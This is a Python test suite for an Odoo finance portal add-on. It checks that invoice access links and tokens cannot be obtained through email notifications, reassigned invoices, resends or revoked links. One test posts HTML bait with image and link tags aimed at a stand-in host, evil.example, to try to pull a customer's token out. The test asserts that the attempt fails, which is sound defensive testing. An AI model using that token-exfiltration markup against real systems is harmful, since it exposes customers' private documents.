"""Nobody gets a link to a document by making Odoo send an email about it (L2, L4, L6)."""

import pytest

from dev.platform.rpc import RpcError
from e2e.toolbox import Guest, let_jobs_end, new_shared, share
from e2e.visitor import LINK, html_of

BAIT = "x your-personal-link x"


def _user(erp, login: str, groups: list[str]) -> int:
    """Create a user whose password is the login; return the contact."""
    group_ids = [
        erp.rpc("ir.model.data", "check_object_reference", *name.split("."))[1] for name in groups
    ]
    values = {
        "name": login,
        "login": login,
        "password": login,
        "email": f"{login}@example.com",
        "group_ids": [(6, 0, group_ids)],
    }
    user = erp.rpc("res.users", "create", [values], context={"no_reset_password": True})[0]
    return erp.rpc("res.users", "read", [user], ["partner_id"])[0]["partner_id"][0]


def _links(erp, move: int) -> int:
    query = "SELECT count(*) FROM finance_portal_link WHERE res_model = %s AND res_id = %s"
    [(count,)] = erp.psql(query, "account.move", move)
    return count


def _opens(message) -> list[int]:
    """Return what the links of an email answer."""
    links = {match.group(0) for match in LINK.finditer(html_of(message))}
    return [Guest().get(link).status_code for link in links]


@pytest.mark.server_log("AccessError|not allowed|access")
@pytest.mark.parametrize("group", ["base.group_portal", "base.group_user"])
def test_l6_users_without_rights_mail_themselves_no_link(erp, inbox, partner, invoice, group):
    shared = new_shared(erp, inbox, partner, invoice)
    login = group.replace(".", "_")
    contact = _user(erp, login, [group])
    before = _links(erp, shared.move)
    body = f'{BAIT} <a href="{erp.url}/my/invoices/{shared.move}">x</a>'
    for model, arguments in (("mail.thread", [[]]), ("account.move", [shared.move])):
        values = {"body": body, "subject": "s", "partner_ids": [contact]}
        if model == "mail.thread":
            values |= {"model": "account.move", "res_id": shared.move}
        try:
            erp.rpc(model, "message_notify", *arguments, login=login, **values)
        except RpcError:
            continue  # refused outright
        inbox.wait_for(1, to=f"{login}@example.com")  # Odoo itself does send the email
    for message in inbox.to(f"{login}@example.com"):
        assert 200 not in _opens(message)
    assert _links(erp, shared.move) == before


@pytest.mark.server_log("Posting HTML message using body_is_html")
def test_l2_a_strangers_reply_gets_nobodys_token(erp, inbox, partner, invoice):
    shared = new_shared(erp, inbox, partner, invoice)
    bait = (
        '<img src="http://evil.example/p?x=your-personal-link">'
        f'<img src="http://evil.example/a/my/invoices/{shared.move}">'
        f'<a href="http://evil.example/?u={erp.url}/my/invoices/{shared.move}">x</a>'
    )
    erp.rpc(
        "account.move", "message_post", shared.move, body=bait, body_is_html=True,
        partner_ids=[shared.contact], message_type="comment", subtype_xmlid="mail.mt_comment",
    )  # fmt: skip
    message = inbox.wait_for(2, to=shared.email)[-1]
    tokens = {match.group(1) for match in LINK.finditer(html_of(message))}
    sources = html_of(message).split("evil.example")[1:]
    assert sources
    assert not any(token in part[:120] for token in tokens for part in sources)


def test_l4_an_email_that_waited_opens_nothing_for_the_former_customer(
    erp, inbox, partner, invoice
):
    shared = new_shared(erp, inbox, partner, invoice)
    inbox.stop()
    erp.rpc(
        "account.move", "message_post", shared.move, body="Late.", partner_ids=[shared.contact],
        message_type="comment", subtype_xmlid="mail.mt_comment",
    )  # fmt: skip
    assert erp.rpc("account.move", "read", [shared.move], ["finance_undelivered"])[0][
        "finance_undelivered"
    ]
    rival = partner(name="Rival Ltd", is_company=True)
    erp.rpc("account.move", "button_draft", [shared.move])
    erp.rpc("account.move", "write", [shared.move], {"partner_id": rival})
    erp.rpc("account.move", "action_post", [shared.move])
    inbox.start()
    erp.rpc("account.move", "action_finance_portal_retry", [shared.move])
    message = inbox.wait_for(2, to=shared.email)[-1]
    assert 200 not in _opens(message)


def test_l4_a_follower_who_is_no_contact_any_more_gets_no_link(erp, inbox, partner, invoice):
    shared = new_shared(erp, inbox, partner, invoice)
    erp.rpc("account.move", "message_subscribe", [shared.move], [shared.contact])
    rival = partner(name="Rival Ltd", is_company=True, email="office@rival.example")
    erp.rpc("account.move", "button_draft", [shared.move])
    erp.rpc("account.move", "write", [shared.move], {"partner_id": rival})
    erp.rpc("account.move", "action_post", [shared.move])
    inbox.clear()
    share(erp, inbox, shared.move, rival, "office@rival.example")
    for message in inbox.to(shared.email):
        assert 200 not in _opens(message)


@pytest.mark.server_log("belongs to another customer")
def test_send_again_refuses_the_former_customer(erp, inbox, partner, invoice):
    shared = new_shared(erp, inbox, partner, invoice)
    rival = partner(name="Rival Ltd", is_company=True)
    erp.rpc("account.move", "button_draft", [shared.move])
    erp.rpc("account.move", "write", [shared.move], {"partner_id": rival})
    erp.rpc("account.move", "action_post", [shared.move])
    wizard = erp.rpc("finance.portal.resend", "create", [{"link_id": shared.link}])
    with pytest.raises(RpcError, match="another customer"):
        erp.rpc("finance.portal.resend", "action_send", wizard)


def test_revoke_all_holds_for_older_links_and_waiting_emails(erp, inbox, partner, invoice):
    shared = new_shared(erp, inbox, partner, invoice)
    older = shared.ref
    newer = share(erp, inbox, shared.move, shared.contact, shared.email)
    erp.rpc("finance.portal.link", "action_revoke", [newer.link])
    guest = Guest()
    csrf = guest.csrf(f"{erp.url}/finance/i/{'n' * 43}")
    guest.post(f"{erp.url}/finance/d/{older}/request-access", data={"csrf_token": csrf})
    inbox.stop()
    erp.rpc(
        "account.move", "message_post", shared.move, body="Late.", partner_ids=[shared.contact],
        message_type="comment", subtype_xmlid="mail.mt_comment",
    )  # fmt: skip
    erp.rpc("account.move", "action_finance_portal_revoke_all", [shared.move])
    inbox.start()
    erp.rpc("account.move", "action_finance_portal_retry", [shared.move])
    let_jobs_end(erp)
    assert len(inbox.to(shared.email)) == 2
